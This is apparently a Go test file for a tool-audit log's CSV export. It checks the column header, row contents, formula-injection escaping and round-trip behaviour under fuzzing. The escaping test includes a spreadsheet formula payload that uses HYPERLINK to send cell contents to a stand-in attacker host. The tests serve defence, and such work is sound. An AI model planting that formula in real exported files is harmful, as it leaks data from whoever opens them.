package export

import (
	stdcsv "encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"toolvault/audit"
	"toolvault/audit/many"
)

func cells(t testing.TB, text string) []map[string]string {
	t.Helper()
	rows, err := stdcsv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var all []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, name := range rows[0] {
			m[name] = row[i]
		}
		all = append(all, m)
	}
	return all
}

// TestTheHeaderIsFixed: others read the columns by their place.
func TestTheHeaderIsFixed(t *testing.T) {
	const want = "log,index,outcome_index,time,phase,event,status,agent,chain,user,admin,task,service,tool,tool_digest,write,call_id,tool_call_id,correlation_id,repeat_of," +
		"token_id,client_id,issuer,client_name,client_version,transport,credential_id,credential_version,credential_type,account,account_label,scope,rule," +
		"upstream_status,upstream_id,retries,ms_total,ms_schema,ms_policy,ms_once,ms_vault,ms_audit,ms_tool,ms_upstream,ms_result,result_bytes,result_digest," +
		"message,arguments,result,erased\r\n"
	if got := exported(t, CSV); got != want {
		t.Error(got)
	}
}

func TestARowHasWhatTheEntryHas(t *testing.T) {
	row := cells(t, exported(t, CSV, kinds()["read"]))[0]
	for name, want := range map[string]string{
		"index": "7", "time": "2026-11-24T12:00:00.123456789Z", "status": "ok", "agent": "support-agent-1", "user": "ana@example.com", "write": "", "ms_total": "12.5",
		"credential_version": "3", "arguments": `{"query":"Dana"}`, "chain": "planner", "erased": "",
	} {
		if row[name] != want {
			t.Errorf("%s: %q, want %q", name, row[name], want)
		}
	}
}

// TestNoCellIsAFormula: what an agent has named itself is a text to a spreadsheet.
func TestNoCellIsAFormula(t *testing.T) {
	for _, evil := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "＝1", "'=1"} {
		e := many.Entry{Entry: audit.Entry{Status: "ok", Record: audit.Record{Phase: audit.PhaseCall, Time: noon, Tool: evil, Message: evil, ClientName: evil}}}
		row := cells(t, exported(t, CSV, e))[0]
		for _, name := range []string{"tool", "message", "client_name"} {
			want := "'" + strings.ReplaceAll(evil, "\r\n", "\n")
			if row[name] != want {
				t.Errorf("%s: %q, want %q", name, row[name], want)
			}
		}
	}
}

// FuzzCSV: every text comes back as it was, and rows are as many as entries.
func FuzzCSV(f *testing.F) {
	for _, s := range []string{"", "a,b", "\"", "\r\n", "=x", "'", "\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if strings.Contains(s, "\r\n") || strings.HasSuffix(s, "\r") || strings.Contains(s, "\r\"") {
			s = strings.ReplaceAll(s, "\r", "") // the reader of the library makes \n of it
		}
		raw, _ := json.Marshal(s)
		e := many.Entry{Entry: audit.Entry{Status: "ok", Record: audit.Record{Phase: audit.PhaseCall, Time: noon, Tool: s, Arguments: raw}}}
		rows := cells(t, exported(t, CSV, e, e))
		if len(rows) != 2 {
			t.Fatalf("%d rows", len(rows))
		}
		got := rows[1]["tool"]
		if r := []rune(s); len(r) > 0 && strings.ContainsRune(formulas, r[0]) {
			if got == s {
				t.Fatalf("%q is a formula", got)
			}
			got = got[1:]
		}
		if got != s {
			t.Fatalf("%q, want %q", got, s)
		}
	})
}
